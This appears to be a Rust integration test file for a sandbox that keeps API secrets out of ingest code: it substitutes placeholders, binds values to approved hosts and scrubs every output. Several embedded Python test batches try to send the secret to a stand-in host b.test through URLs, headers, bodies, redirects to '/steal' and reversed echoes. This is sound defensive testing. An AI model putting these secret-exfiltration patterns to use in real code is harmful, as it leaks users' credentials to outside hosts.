//! Secrets the sandbox never holds (the policy's `secrets:`): a batch's
//! code gets a placeholder, the door puts the value in only for the hosts
//! the operator bound it to, and every way out of the run is searched for
//! the value byte for byte.

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, Method, StatusCode, Uri};
use axum::response::{IntoResponse, Response};
use axum::Router;

use crate::support::{files_under, run_sandstack, validate, Folder, TestServer};

const NAME: &str = "SANDSTACK_TEST_API_KEY";
const VALUE: &str = "sk-live-7Q2w9Zr4Xy+Kp/v8";

/// The forms the value could be found in.
fn forms() -> Vec<String> {
    vec![
        VALUE.to_string(),
        VALUE.replace('+', "%2B").replace('/', "%2F"),
        base64_of(VALUE),
    ]
}

fn base64_of(s: &str) -> String {
    use base64::Engine as _;
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// Every request a server was sent, as text.
type Seen = Arc<Mutex<Vec<String>>>;

/// A loopback server that writes down every request. `/echo` answers with
/// the request (the value included, as an API echoing a key would),
/// `/redirect` redirects to `https://b.test/steal` with the request's query,
/// `/redirect-on` redirects to `https://b.test/next`, `/reversed` answers
/// the `key` parameter reversed, `/encoded` echoes
/// the query and the `Accept-Encoding` it was sent, marked gzip whatever
/// it was asked for.
fn server(seen: Seen) -> TestServer {
    server_at("127.0.0.1:0", seen)
}

fn server_at(bind: &str, seen: Seen) -> TestServer {
    async fn handle(
        State(seen): State<Seen>,
        method: Method,
        uri: Uri,
        headers: HeaderMap,
        body: Bytes,
    ) -> Response {
        let header_text: Vec<String> = headers
            .iter()
            .map(|(k, v)| format!("{k}: {}", String::from_utf8_lossy(v.as_bytes())))
            .collect();
        let body = String::from_utf8_lossy(&body).to_string();
        seen.lock().expect("lock").push(format!(
            "{method} {uri}\n{}\n\n{body}",
            header_text.join("\n")
        ));
        let query = uri.query().unwrap_or("").to_string();
        match uri.path() {
            "/echo" => {
                let auth = headers
                    .get("authorization")
                    .map(|v| String::from_utf8_lossy(v.as_bytes()).to_string())
                    .unwrap_or_default();
                (
                    [("x-echo", query.clone())],
                    axum::Json(serde_json::json!({"query": query, "auth": auth, "body": body})),
                )
                    .into_response()
            }
            "/redirect" => (
                StatusCode::FOUND,
                [("location", format!("https://b.test/steal?{query}"))],
            )
                .into_response(),
            "/reversed" => {
                let key = url::form_urlencoded::parse(query.as_bytes())
                    .find(|(k, _)| k == "key")
                    .map(|(_, v)| v.chars().rev().collect::<String>())
                    .unwrap_or_default();
                key.into_response()
            }
            "/encoded" => (
                [("content-encoding", "gzip")],
                format!(
                    "{query} {}",
                    headers
                        .get("accept-encoding")
                        .map_or("", |v| v.to_str().unwrap_or(""))
                ),
            )
                .into_response(),
            "/redirect-on" => (
                StatusCode::FOUND,
                [("location", "https://b.test/next".to_string())],
            )
                .into_response(),
            _ => "ok".into_response(),
        }
    }
    TestServer::start_at(bind, Router::new().fallback(handle).with_state(seen))
}

struct Rig {
    folder: Folder,
    policy: PathBuf,
    db: PathBuf,
    a: Seen,
    b: Seen,
    _servers: (TestServer, TestServer),
    _dir: tempfile::TempDir,
}

/// Hosts a.test and b.test on loopback servers, the secret bound to
/// a.test, and one batch per piece of `code`, each ending in `returns`.
fn rig(batches: &[(&str, &str)]) -> Rig {
    let (a, b): (Seen, Seen) = Default::default();
    let (sa, sb) = (server(a.clone()), server(b.clone()));
    let dir = tempfile::tempdir().expect("tmp");
    let policy = dir.path().join("policy.yaml");
    std::fs::write(
        &policy,
        // 127.0.0.1 is where a.test's stand-in is: the value goes there.
        format!("allow_http_rewrite: true\nsecrets:\n  {NAME}: {{hosts: [a.test, 127.0.0.1], http: true}}\n"),
    )
    .expect("policy");
    let folder = Folder::with_defaults();
    for (name, body) in batches {
        folder.write(
            &format!("b/{name}.py"),
            &format!(
                "import os\nimport logging\nimport pandas as pd\nimport requests\n\nS = os.environ[\"{NAME}\"]\n\n\
                 def ingest():\n{body}\n"
            ),
        );
        folder.write(
            &format!("b/{name}.yaml"),
            &format!(
                "metric_batch: \"{name}\"\ningest_fn: >\n  {{% include \"./b/{name}.py\" %}}\ningest_env: [{NAME}]\n\
                 http_rewrite:\n  \"https://a.test\": \"http://{}\"\n  \"https://b.test\": \"http://{}\"\n  \
                 \"https://a.test/via\": \"http://localhost:{}\"\n",
                sa.addr,
                sb.addr,
                sb.addr.port()
            ),
        );
    }
    Rig {
        db: dir.path().join("m.duckdb"),
        folder,
        policy,
        a,
        b,
        _servers: (sa, sb),
        _dir: dir,
    }
}

impl Rig {
    fn ingest(&self, batch: &str, more: &[&str], env: &[(&str, &str)]) -> std::process::Output {
        let mut args = vec![
            "ingest",
            batch,
            "--policy",
            self.policy.to_str().expect("utf-8"),
        ];
        args.extend_from_slice(more);
        run_sandstack(&args, &self.folder, &self.db, env)
    }

    fn text(out: &std::process::Output) -> String {
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        )
    }
}

/// Whether `bytes` hold the secret in any of its forms.
fn holds_value(bytes: &[u8]) -> Option<String> {
    forms()
        .into_iter()
        .find(|f| memchr::memmem::find(bytes, f.as_bytes()).is_some())
}

/// Every file under `dir` (the database and its write-ahead log, the
/// cassettes) searched for the value.
fn assert_nowhere_under(dir: &Path) {
    for entry in files_under(dir) {
        let bytes = std::fs::read(&entry)
            .unwrap_or_else(|e| panic!("{}: {e} (it cannot be searched)", entry.display()));
        assert_eq!(
            holds_value(&bytes),
            None,
            "the secret's value is in {}",
            entry.display()
        );
    }
}

const RETURN: &str = "    return pd.DataFrame({'metric_name': ['n'], 'metric_value': [1.0], 'metric_timestamp': [pd.Timestamp.now(tz='UTC')]})";

#[test]
fn the_bound_host_gets_the_value_and_nothing_else_ever_holds_it() {
    let legit = r#"    seen = []
    r = requests.get('https://a.test/echo', params={'key': S}, headers={'Authorization': f'Bearer {S}', 'X-Plain': S})
    seen.append(r.text)
    seen.append(r.headers['x-echo'])
    seen.append(requests.post('https://a.test/echo', json={'key': S}).text)
    seen.append(requests.post('https://a.test/echo', data={'key': S}).text)
    seen.append(requests.get('https://a.test/echo', auth=('user', S)).text)
    seen.append(requests.get(f'https://a.test/echo/{S}').text)
    print('the key is', S, seen)
    logging.getLogger('x').warning('key %s', S)
    rows = [('echo_' + str(i) + '_' + s[:100], float(len(s))) for i, s in enumerate(seen)] + [('key_' + S, 1.0)]
    rows += [('char_' + str(i), float(ord(c))) for i, c in enumerate(S)]
    return pd.DataFrame({'metric_name': [n for n, _ in rows], 'metric_value': [v for _, v in rows], 'metric_timestamp': pd.Timestamp.now(tz='UTC')})"#;
    let rig = rig(&[("legit", legit)]);
    let cassette = rig._dir.path().join("legit.yaml");
    let out = rig.ingest(
        "legit",
        &["--record", cassette.to_str().expect("utf-8")],
        &[(NAME, VALUE)],
    );
    let text = Rig::text(&out);
    assert!(out.status.success(), "{text}");

    // The bound host got the value: in the query, the bearer header, a
    // plain header, a JSON body, a form body, basic auth and the path.
    let a = rig.a.lock().expect("lock").join("\n----\n");
    let encoded = "sk-live-7Q2w9Zr4Xy%2BKp%2Fv8";
    assert!(a.contains(&format!("key={encoded}")), "{a}");
    assert!(a.contains(&format!("authorization: Bearer {VALUE}")), "{a}");
    assert!(a.contains(&format!("x-plain: {VALUE}")), "{a}");
    assert!(a.contains(&format!("{{\"key\": \"{VALUE}\"}}")), "{a}");
    assert!(a.contains(&format!("key={encoded}")), "{a}");
    assert!(
        a.contains(&format!(
            "authorization: Basic {}",
            base64_of(&format!("user:{VALUE}"))
        )),
        "{a}"
    );
    assert!(a.contains(&format!("/echo/{encoded}")), "{a}");

    // Its echoes came back as the placeholder: the output, the log, the
    // stored names and values, the run history and the cassette hold no
    // form of the value; the characters stored one by one spell the
    // placeholder.
    assert_eq!(holds_value(text.as_bytes()), None, "{text}");
    assert!(
        text.contains("SANDSTACK-SECRET-SANDSTACK_TEST_API_KEY-"),
        "{text}"
    );
    assert_nowhere_under(rig._dir.path());
    let spelled = spelled_name(&rig.db);
    assert!(spelled.starts_with("SANDSTACK-SECRET-"), "{spelled}");
    assert_ne!(spelled, VALUE);
    let recorded = std::fs::read_to_string(&cassette).expect("cassette");
    assert!(
        recorded.contains("SANDSTACK-SECRET-SANDSTACK_TEST_API_KEY-RECORDED"),
        "the cassette names the secret where it stood:\n{recorded}"
    );

    // The replay needs no secret and makes no request.
    let before = rig.a.lock().expect("lock").len();
    let replay_db = rig._dir.path().join("replay.duckdb");
    let out = crate::support::run_sandstack(
        &[
            "ingest",
            "legit",
            "--policy",
            rig.policy.to_str().expect("utf-8"),
            "--replay",
            cassette.to_str().expect("utf-8"),
        ],
        &rig.folder,
        &replay_db,
        &[],
    );
    assert!(out.status.success(), "{}", Rig::text(&out));
    assert_eq!(
        rig.a.lock().expect("lock").len(),
        before,
        "a replay reached the server"
    );
    assert_eq!(
        spelled_name(&replay_db),
        spelled,
        "the replay saw what the run saw"
    );
    assert_nowhere_under(rig._dir.path());
}

/// The secret's characters as the batch stored them, one per metric.
fn spelled_name(db: &Path) -> String {
    let conn = duckdb::Connection::open(db).expect("open");
    let mut q = conn
        .prepare(
            "SELECT metric_value FROM metrics WHERE metric_name LIKE 'char_%' \
             ORDER BY CAST(substr(metric_name, 6) AS INTEGER)",
        )
        .expect("query");
    let rows = q
        .query_map([], |r| r.get::<_, f64>(0))
        .expect("rows")
        .map(|v| char::from(v.expect("value") as u8))
        .collect();
    rows
}

#[test]
fn every_way_to_another_host_is_refused_before_the_request_goes_out() {
    let attempts = [
        ("url", "    requests.get('https://b.test/x?k=' + S)"),
        (
            "params",
            "    requests.get('https://b.test/x', params={'k': S})",
        ),
        (
            "header",
            "    requests.get('https://b.test/x', headers={'X-K': S})",
        ),
        ("body", "    requests.post('https://b.test/x', data=S)"),
        (
            "json",
            "    requests.post('https://b.test/x', json={'k': S})",
        ),
        (
            "basic",
            "    requests.get('https://b.test/x', auth=('u', S))",
        ),
        (
            "redirect",
            "    requests.get('https://a.test/redirect', params={'key': S})",
        ),
        (
            "rewritten",
            "    requests.get('https://a.test/via/x', params={'key': S})",
        ),
        (
            "host_name",
            "    requests.get('https://' + S.lower() + '.a.test/x')",
        ),
    ];
    let batches: Vec<(&str, String)> = attempts
        .iter()
        .map(|(n, code)| (*n, format!("{code}\n{RETURN}")))
        .collect();
    let shown: Vec<(&str, &str)> = batches.iter().map(|(n, c)| (*n, c.as_str())).collect();
    let rig = rig(&shown);
    for (name, _) in attempts {
        let out = rig.ingest(name, &[], &[(NAME, VALUE)]);
        let text = Rig::text(&out);
        assert!(
            !out.status.success(),
            "{name}: the attempt succeeded:\n{text}"
        );
        assert!(
            text.contains(&format!("carries secret {NAME}")),
            "{name}: the refusal names the secret:\n{text}"
        );
        assert_eq!(holds_value(text.as_bytes()), None, "{name}: {text}");
    }
    let b = rig.b.lock().expect("lock");
    assert!(b.is_empty(), "b.test was reached: {b:?}");
    assert!(
        holds_value(rig.a.lock().expect("lock").join("\n").as_bytes()).is_some(),
        "the redirect's first hop, to a.test, carried the value"
    );
    assert_nowhere_under(rig._dir.path());
}

#[test]
fn credentials_do_not_follow_a_redirect_to_another_host_and_raised_secrets_are_placeholders() {
    let rig = rig(&[
        (
            "follow",
            &format!(
                "    r = requests.get('https://a.test/redirect-on', headers={{'Authorization': 'Bearer ' + S}})\n    \
                 assert r.text == 'ok', r.text\n{RETURN}"
            ),
        ),
        ("raise", "    raise ValueError('the key is ' + S)"),
        (
            "encoded",
            "    requests.get('https://a.test/encoded', params={'key': S}, headers={'Accept-Encoding': 'gzip'})",
        ),
    ]);
    let out = rig.ingest("follow", &[], &[(NAME, VALUE)]);
    assert!(out.status.success(), "{}", Rig::text(&out));
    let b = rig.b.lock().expect("lock").join("\n");
    assert!(b.contains("GET /next"), "{b}");
    assert!(!b.to_ascii_lowercase().contains("authorization"), "{b}");

    let out = rig.ingest("raise", &[], &[(NAME, VALUE)]);
    let text = Rig::text(&out);
    assert!(!out.status.success());
    assert!(
        text.contains("ValueError: the key is SANDSTACK-SECRET-SANDSTACK_TEST_API_KEY-"),
        "{text}"
    );
    assert_eq!(holds_value(text.as_bytes()), None, "{text}");

    // A reply that could hide the value in an encoding is not handed over.
    let out = rig.ingest("encoded", &[], &[(NAME, VALUE)]);
    let text = Rig::text(&out);
    assert!(!out.status.success(), "{text}");
    assert!(
        text.contains("the reply came encoded (content-encoding: gzip) though none was asked for; in a run with secrets (SANDSTACK_TEST_API_KEY)"),
        "{text}"
    );
    let a = rig.a.lock().expect("lock").join("\n");
    assert!(a.contains("accept-encoding: identity"), "{a}");
    assert!(!a.contains("accept-encoding: gzip"), "{a}");
    assert_eq!(holds_value(text.as_bytes()), None, "{text}");
    assert_nowhere_under(rig._dir.path());
}

#[test]
fn hashing_a_placeholder_says_why_it_cannot_work() {
    let rig = rig(&[(
        "sign",
        "    import hmac, hashlib\n    hmac.new(S.encode(), b'GET /x', hashlib.sha256).hexdigest()",
    )]);
    let out = rig.ingest("sign", &[], &[(NAME, VALUE)]);
    let text = Rig::text(&out);
    assert!(!out.status.success(), "{text}");
    assert!(
        text.contains("SecretPlaceholderError: hmac.new was given the placeholder of secret SANDSTACK_TEST_API_KEY")
            && text.contains("plain: true"),
        "{text}"
    );
}

#[test]
fn the_operator_binds_secrets_and_validate_names_plain_ones() {
    let f = Folder::with_defaults();
    let sql = "ingest_sql: \"SELECT now() AS metric_timestamp, 'm' AS metric_name, 1.0 AS metric_value\"\n";
    f.write("t/tomtom.yaml", &format!("metric_batch: tomtom\n{sql}"));
    f.write(
        "t/listed.yaml",
        &format!("metric_batch: listed\n{sql}ingest_env: [TOMTOM_KEY]\n"),
    );
    f.write(
        "t/signer.yaml",
        &format!("metric_batch: signer\n{sql}ingest_env: [SIGNING_SECRET]\n"),
    );
    f.write(
        "t/greedy.yaml",
        &format!("metric_batch: greedy\n{sql}ingest_env: [WEATHER_API_KEY]\n"),
    );
    let dir = tempfile::tempdir().expect("tmp");
    let policy = dir.path().join("p.yaml");
    std::fs::write(
        &policy,
        "ingest_env_allowed: [\"WEATHER_*\"]\n\
         secrets:\n  TOMTOM_KEY: {hosts: [api.tomtom.com], in: [query], batches: [tomtom]}\n  SIGNING_SECRET: {plain: true}\n",
    )
    .expect("policy");
    let (code, text) = validate(f.path(), &["--policy".as_ref(), policy.as_os_str()]);
    assert_eq!(code, Some(1), "{text}");
    // `batches` gives tomtom the secret; listing it elsewhere is refused.
    assert!(
        text.contains("listed.yaml: key `ingest_env`: asks for secret TOMTOM_KEY")
            && text.contains("TOMTOM_KEY only for the batches tomtom"),
        "{text}"
    );
    // A secret-looking name granted by a name list is refused, with how
    // to bind it.
    assert!(
        text.contains("greedy.yaml: key `ingest_env`: asks for host variable WEATHER_API_KEY, whose name says it is a secret")
            && text.contains("`WEATHER_API_KEY: {hosts: [...]}`"),
        "{text}"
    );
    // A plain value is named in a warning.
    assert!(
        text.contains("batch `signer` gets secret SIGNING_SECRET's value itself"),
        "{text}"
    );
    let folder = sandstack::config::load_with_policy(
        f.path(),
        &Default::default(),
        &sandstack::config::Policy::load(&policy).expect("policy"),
    );
    let tomtom = folder.batch("tomtom").expect("tomtom");
    assert_eq!(tomtom.secrets.len(), 1);
    assert_eq!(tomtom.secrets[0].name, "TOMTOM_KEY");
    assert!(
        tomtom.ingest_settings.env.is_empty(),
        "the value is not in its env"
    );
    let signer = folder.batch("signer").expect("signer");
    assert!(signer.secrets.is_empty());
    assert_eq!(
        signer.ingest_settings.env,
        vec!["SIGNING_SECRET".to_string()]
    );

    for (yaml, why) in [
        (
            "secrets: {K: {}}\n",
            "give the hosts the value may be sent to",
        ),
        (
            "secrets: {K: {hosts: [\"a.example/x\"]}}\n",
            "is not a host pattern",
        ),
        (
            "secrets: {K: {hosts: [a.example], in: [cookie]}}\n",
            "`cookie` is not a part of a request",
        ),
        (
            "secrets: {K: {plain: true, batches: [b]}}\n",
            "secrets: K grants `b` host variables, but no entry of `folders` binds",
        ),
    ] {
        std::fs::write(&policy, yaml).expect("policy");
        let e = sandstack::config::Policy::load(&policy).expect_err(yaml);
        assert!(e.contains(why), "{yaml}: {e}");
    }
}

/// Batches written as Anomstack's key-using examples are (TomTom's key in
/// the URL, PostHog's as a bearer token, neither listing `ingest_env`),
/// replayed from their recordings with the secrets bound to their hosts:
/// no secret in the environment, no network. Bound to another host, the
/// same replay is refused as the live run would be.
#[test]
fn key_using_batches_replay_from_their_recordings_with_the_secrets_bound() {
    let fixtures = crate::support::repo().join("tests/fixtures/secrets");
    let cassettes = crate::support::repo().join("tests/cassettes/secrets");
    let f = Folder::with_defaults();
    for b in ["traffic", "analytics"] {
        for ext in ["py", "yaml"] {
            let text =
                std::fs::read_to_string(fixtures.join(format!("{b}.{ext}"))).expect("fixture");
            f.write(&format!("{b}/{b}.{ext}"), &text);
        }
    }
    let dir = tempfile::tempdir().expect("tmp");
    let policy = dir.path().join("p.yaml");
    let bind = |tomtom: &str| {
        std::fs::write(
            &policy,
            format!(
                "secrets:\n  ANOMSTACK_TOMTOM_API_KEY: {{hosts: [{tomtom}], in: [\"query:key\"], batches: [traffic]}}\n  \
                 POSTHOG_API_KEY: {{hosts: [us.posthog.com, eu.posthog.com], in: [\"header:Authorization\"], batches: [analytics]}}\n"
            ),
        )
        .expect("policy");
    };
    bind("api.tomtom.com");
    let db = dir.path().join("m.duckdb");
    for b in ["traffic", "analytics"] {
        let cassette = cassettes.join(format!("{b}.yaml"));
        let out = std::process::Command::new(env!("CARGO_BIN_EXE_sandstack"))
            .args(["ingest", b, "--policy"])
            .arg(&policy)
            .arg("--replay")
            .arg(&cassette)
            .arg("--metrics")
            .arg(f.path())
            .arg("--db")
            .arg(&db)
            .env_clear()
            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
            .env("SANDSTACK_HOME", sandstack::sandbox::home_dir())
            .output()
            .expect("run");
        let text = Rig::text(&out);
        assert!(out.status.success(), "{b}: {text}");
        assert!(
            text.contains(&format!("batch {b}: stored 4 rows in metrics_{b}")),
            "{b}: {text}"
        );
    }
    bind("api.tomtom.example");
    let out = run_sandstack(
        &[
            "ingest",
            "traffic",
            "--policy",
            policy.to_str().expect("utf-8"),
            "--replay",
            cassettes.join("traffic.yaml").to_str().expect("utf-8"),
        ],
        &f,
        &dir.path().join("other.duckdb"),
        &[],
    );
    let text = Rig::text(&out);
    assert!(!out.status.success(), "{text}");
    assert!(
        text.contains(
            "carries secret ANOMSTACK_TOMTOM_API_KEY, which the policy's `secrets:` lets go only to api.tomtom.example, not to api.tomtom.com"
        ),
        "{text}"
    );
}

/// A bound host that hands the value back in a form no check knows
/// (reversed) defeats the scrub; the run is then stopped as soon as the
/// value shows in its output, log, error or rows, and nothing is stored.
#[test]
fn a_value_brought_back_in_an_unknown_form_stops_the_run() {
    let fetch = "    v = requests.get('https://a.test/reversed', params={'key': S}).text[::-1]\n";
    let rig = rig(&[
        (
            "in_rows",
            &format!("{fetch}    return pd.DataFrame({{'metric_name': ['k_' + v], 'metric_value': [1.0], 'metric_timestamp': [pd.Timestamp.now(tz='UTC')]}})"),
        ),
        ("in_output", &format!("{fetch}    print('got', v)\n{RETURN}")),
        ("in_log", &format!("{fetch}    logging.getLogger('x').warning(v)\n{RETURN}")),
        ("in_error", &format!("{fetch}    raise ValueError(v)")),
        (
            "in_column",
            &format!("{fetch}    return pd.DataFrame({{v: [1.0]}})"),
        ),
        (
            "sent_on",
            &format!("{fetch}    requests.get('https://b.test/x', params={{'k': v}})\n{RETURN}"),
        ),
    ]);
    // A log line is printed to the run's output too, where it is seen first.
    for (batch, at) in [
        ("in_rows", "rows"),
        ("in_output", "output"),
        ("in_log", "output"),
        ("in_error", "error"),
        ("in_column", "rows"),
    ] {
        // Recorded: a stopped run writes no cassette.
        let cassette = rig._dir.path().join(format!("{batch}.yaml"));
        let record = ["--record", cassette.to_str().expect("utf-8")];
        let out = rig.ingest(batch, &record, &[(NAME, VALUE)]);
        let text = Rig::text(&out);
        assert!(!out.status.success(), "{batch}: {text}");
        assert!(
            text.contains(&format!("the run's {at} held the value of secret {NAME}")),
            "{batch}: {text}"
        );
        assert_eq!(holds_value(text.as_bytes()), None, "{batch}: {text}");
        assert!(!cassette.exists(), "{batch}: a cassette was written");
    }
    let out = rig.ingest("sent_on", &[], &[(NAME, VALUE)]);
    let text = Rig::text(&out);
    assert!(
        text.contains(&format!("the code sent the value of secret {NAME} itself")),
        "{text}"
    );
    assert!(rig.b.lock().expect("lock").is_empty(), "b.test was reached");
    assert_nowhere_under(rig._dir.path());
}

/// A secret bound to an IPv6 address: its echoes come back as the
/// placeholder too (the address is matched without its brackets).
#[test]
fn a_secret_bound_to_an_ipv6_address_is_scrubbed_from_its_replies() {
    let seen: Seen = Default::default();
    let v6 = server_at("[::1]:0", seen.clone());
    let dir = tempfile::tempdir().expect("tmp");
    let policy = dir.path().join("p.yaml");
    std::fs::write(
        &policy,
        format!("allow_http_private: true\nsecrets:\n  {NAME}: {{hosts: [\"::1\"], http: true}}\n"),
    )
    .expect("policy");
    let f = Folder::with_defaults();
    f.write(
        "b/v6.py",
        &format!(
            "import os\nimport pandas as pd\nimport requests\n\ndef ingest():\n    \
             r = requests.get('http://[::1]:{}/echo', params={{'key': os.environ['{NAME}']}})\n    \
             return pd.DataFrame({{'metric_name': ['q_' + r.json()['query']], 'metric_value': [1.0], \
             'metric_timestamp': [pd.Timestamp.now(tz='UTC')]}})\n",
            v6.addr.port()
        ),
    );
    f.write(
        "b/v6.yaml",
        &format!("metric_batch: v6\ningest_fn: >\n  {{% include \"./b/v6.py\" %}}\ningest_env: [{NAME}]\nhttp_allow_private: true\n"),
    );
    let db = dir.path().join("m.duckdb");
    let out = run_sandstack(
        &["ingest", "v6", "--policy", policy.to_str().expect("utf-8")],
        &f,
        &db,
        &[(NAME, VALUE)],
    );
    let text = Rig::text(&out);
    assert!(out.status.success(), "{text}");
    assert!(text.contains("q_key=SANDSTACK-SECRET-"), "{text}");
    assert!(
        holds_value(seen.lock().expect("lock").join("\n").as_bytes()).is_some(),
        "the bound address got the value"
    );
    assert_eq!(holds_value(text.as_bytes()), None, "{text}");
    assert_nowhere_under(dir.path());
}
